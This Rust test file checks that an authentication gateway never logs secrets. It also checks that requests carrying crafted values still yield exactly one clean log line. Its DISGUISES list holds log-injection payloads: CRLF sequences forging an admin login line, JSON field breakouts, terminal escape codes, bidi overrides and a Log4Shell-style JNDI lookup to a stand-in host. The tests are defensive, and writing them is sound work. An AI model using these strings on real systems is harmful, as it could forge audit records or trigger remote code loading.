//! Logs are silent about secrets: through everything that a client can do, no token, password or
//! connection URL is written anywhere.

use std::fmt::Write as _;

use portcullis_tests::{Client, raw};
use serde_json::json;

use crate::process::{ADMIN_TOKEN, Stand};

#[tokio::test(flavor = "multi_thread")]
async fn no_secret_is_ever_logged() {
    let stand = Stand::start("level = \"trace\"").await;
    let mut alice = stand.client();
    alice.register("alice").await;
    alice.keep(&alice.try_login("alice", Client::PASSWORD).await);
    let first = alice.access_token();
    let refresh = alice.refresh_token();
    assert_eq!(alice.get(&format!("/users/me?access_token={first}")).await.status, 200);
    assert_eq!(alice.refresh().await.status, 200);
    alice.try_login("alice", "a wrong password").await;
    alice.refresh_with("garbage-refresh-token").await;
    alice.with_access("garbage-access-token").get("/users/me").await;
    alice.post("/auth/login", &json!({ "username": "alice", "password": { "a": Client::PASSWORD } })).await;
    let office = stand.admin();
    let wrong = "a-wrong-admin-token-of-somebody";
    assert_eq!(office.with_access(wrong).get("/admin/v1/users/alice").await.status, 401);
    assert_eq!(office.get("/admin/v1/users/alice/sessions").await.status, 200);
    alice.logout("all").await;
    let second = alice.access_token();
    let logs = stand.stop().await;
    assert!(logs.contains("logged in") && logs.contains("login failed"), "{logs}");
    assert!(logs.contains(r#""who":"admin","action":"list_sessions","subject":"alice","outcome":"done""#), "{logs}");
    for secret in [
        &first,
        &second,
        &refresh,
        Client::PASSWORD,
        "a wrong password",
        "garbage-refresh-token",
        "garbage-access-token",
        ADMIN_TOKEN,
        wrong,
        "BEGIN PRIVATE KEY",
    ] {
        assert!(!logs.contains(secret), "{secret} was logged:\n{logs}");
        let middle = &secret[secret.len() / 3..];
        assert!(!logs.contains(middle), "a part of {secret} was logged:\n{logs}");
    }
}

/// What would be a line of its own, another field, or an order to a terminal, wherever it was written as it came.
const DISGUISES: [&str; 8] = [
    "%0d%0a2026-01-01T00:00:00Z  INFO auth: logged in subject=admin",
    "\" status=200 subject=\"admin",
    "\",\"level\":\"INFO\",\"subject\":\"admin\"},{\"a\":\"",
    "\\n\\r\\u000a\\x1b[2J",
    "\u{9b}2J\u{1b}",
    "\u{202e}nimda\u{2066}",
    "\u{2028}\u{2029}\u{85}",
    "${jndi:ldap://evil.test/a} %s %n {} {0}",
];

#[tokio::test(flavor = "multi_thread")]
async fn one_request_writes_one_line_whatever_it_says() {
    for format in ["json", "text"] {
        let toml = include_str!("process.toml").replace("@TELEMETRY@", "");
        let stand = Stand::start_with(&toml.replace("\"json\"", &format!("{format:?}"))).await;
        let address = stand.client().address();
        let before = stand.logs().lines().count();
        let mut asked = 0;
        for disguise in DISGUISES {
            let encoded = percent_encoded(disguise);
            let body = json!({ "username": disguise, "password": disguise }).to_string();
            for (first, lines, body) in [
                (
                    "GET /public/x".to_owned(),
                    format!("User-Agent: {disguise}\r\nReferer: {disguise}\r\nX-Request-Id: {disguise}\r\n"),
                    "",
                ),
                (format!("GET /public/{encoded}?a={encoded}&token={encoded}"), String::new(), ""),
                (format!("GET /nowhere?{}", disguise.replace(' ', "+")), String::new(), ""),
                ("GET /users/me".to_owned(), format!("Authorization: Bearer {disguise}\r\n"), ""),
                ("POST /auth/login".to_owned(), "Content-Type: application/json\r\n".to_owned(), &*body),
            ] {
                let length = body.len();
                let request = format!(
                    "{first} HTTP/1.1\r\nHost: gateway.test\r\nConnection: close\r\n{lines}Content-Length: {length}\r\n\r\n{body}"
                );
                // What holds a control character does not get as far as a line, or an answer of ours.
                let answer = raw(address, request.as_bytes()).await;
                asked += usize::from(answer.contains("x-request-id: "));
            }
        }
        let logs = stand.stop().await;
        let lines: Vec<&str> = logs.split('\n').skip(before).filter(|line| !line.is_empty()).collect();
        let requests =
            lines.iter().filter(|line| line.contains("api: request") || line.contains("\"message\":\"request\""));
        assert_eq!(requests.count(), asked, "{format}:\n{logs}");
        assert!(asked >= 3 * DISGUISES.len(), "{asked}");
        for line in lines {
            assert!(!line.contains(char::is_control), "{format}: {line:?}");
            if format == "json" {
                let object: serde_json::Value = serde_json::from_str(line).unwrap();
                assert_ne!(object["subject"], "admin", "{line}");
            } else {
                assert_eq!(line.as_bytes().get(10), Some(&b'T'), "it begins with a time: {line:?}");
                assert!(!line.contains(['\u{202e}', '\u{2066}', '\u{2028}', '\u{2029}']), "{line:?}");
                assert!(!line.contains(" subject=\"admin\""), "{line}");
            }
        }
    }
}

/// Each byte as `%XX`.
fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        let _ = write!(encoded, "%{byte:02X}"); // A String takes whatever is written to it.
        encoded
    })
}
